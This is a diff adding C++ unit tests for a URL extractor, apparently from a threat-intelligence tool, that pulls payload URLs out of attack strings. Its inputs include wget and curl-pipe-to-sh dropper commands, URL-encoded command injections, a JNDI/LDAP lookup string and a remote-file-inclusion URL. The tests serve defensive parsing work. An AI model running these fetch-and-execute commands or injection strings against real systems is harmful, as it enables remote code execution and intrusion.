@@ -1,0 +1,77 @@
+// Unit tests for payload URL extraction (src/intel/payload_urls.h).
+#include "intel/payload_urls.h"
+
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+namespace drosera::intel {
+namespace {
+
+using ::testing::ElementsAre;
+using ::testing::IsEmpty;
+
+TEST(PayloadUrlsTest, ShellDropper) {
+  EXPECT_THAT(findPayloadUrls("cd /tmp; wget http://45.33.32.156/bins/x86.sh; chmod +x x86.sh", 10),
+              ElementsAre("http://45.33.32.156/bins/x86.sh"));
+  EXPECT_THAT(findPayloadUrls("curl -s https://Evil.EXAMPLE.net:8443/a.sh|sh", 10),
+              ElementsAre("https://evil.example.net:8443/a.sh"));
+}
+
+TEST(PayloadUrlsTest, EncodedPayloadsAreDecoded) {
+  EXPECT_THAT(findPayloadUrls("/cgi-bin/x?cmd=wget%20http%3A%2F%2F45.33.32.156%2Fx.sh%3Bsh", 10),
+              ElementsAre("http://45.33.32.156/x.sh"));
+  EXPECT_THAT(findPayloadUrls("?c=wget%2520http%253A%252F%252Fdl.example.com%252Fm", 10),
+              ElementsAre("http://dl.example.com/m"));
+  EXPECT_THAT(findPayloadUrls("?c=wget+http://dl.example.com/a+b", 10),
+              ElementsAre("http://dl.example.com/a"));
+}
+
+TEST(PayloadUrlsTest, JndiAndRfi) {
+  EXPECT_THAT(findPayloadUrls("${jndi:ldap://45.33.32.156:1389/Exploit}", 10),
+              ElementsAre("ldap://45.33.32.156:1389/Exploit"));
+  EXPECT_THAT(findPayloadUrls("/index.php?page=http://rfi.example.org/shell.txt?", 10),
+              ElementsAre("http://rfi.example.org/shell.txt?"));
+}
+
+TEST(PayloadUrlsTest, NotUrls) {
+  EXPECT_THAT(findPayloadUrls("http://localhost/x http://a/ http:// xhttpx://a.b.cc/", 10),
+              IsEmpty());
+  EXPECT_THAT(findPayloadUrls("gopher://a.example.com/x", 10), IsEmpty());
+  EXPECT_THAT(findPayloadUrls("http://1.2.3.999/x", 10), IsEmpty());
+  EXPECT_THAT(findPayloadUrls("http://a.example.com:99999/x", 10), IsEmpty());
+}
+
+TEST(PayloadUrlsTest, CredentialsInTheUrlAreDropped) {
+  EXPECT_THAT(findPayloadUrls("ftp://anon:secret@ftp.example.com/pub/x", 10),
+              ElementsAre("ftp://ftp.example.com/pub/x"));
+}
+
+TEST(PayloadUrlsTest, AbsoluteFormTargetIsNotAPayload) {
+  EXPECT_THAT(findPayloadUrls("http://proxy.example.com/", 10, true), IsEmpty());
+  EXPECT_THAT(findPayloadUrls("http://p.example.com/?u=http://x.example.com/a", 10, true),
+              ElementsAre("http://x.example.com/a"));
+}
+
+TEST(PayloadUrlsTest, BoundedAndDistinct) {
+  std::string many;
+  for (int i = 0; i < 50; ++i) many += " wget http://h" + std::to_string(i) + ".example.com/x;";
+  many += " wget http://h0.example.com/x;";
+  auto urls = findPayloadUrls(many, 5);
+  EXPECT_EQ(urls.size(), 5u);
+  EXPECT_EQ(findPayloadUrls(many, 100).size(), 50u);
+}
+
+TEST(PayloadUrlsTest, NonPrintableBytesAreEncoded) {
+  EXPECT_THAT(findPayloadUrls(std::string("wget http://dl.example.com/a\xFF\x01"), 10),
+              ElementsAre("http://dl.example.com/a%FF"));
+  EXPECT_THAT(findPayloadUrls("wget http://[2001:DB8::1]/x", 10),
+              ElementsAre("http://[2001:db8::1]/x"));
+}
+
+TEST(PayloadUrlsTest, PercentDecode) {
+  EXPECT_EQ(percentDecode("a%2Fb%zz+c%", true), "a/b%zz c%");
+  EXPECT_EQ(percentDecode("a+b", false), "a+b");
+}
+
+}  // namespace
+}  // namespace drosera::intel
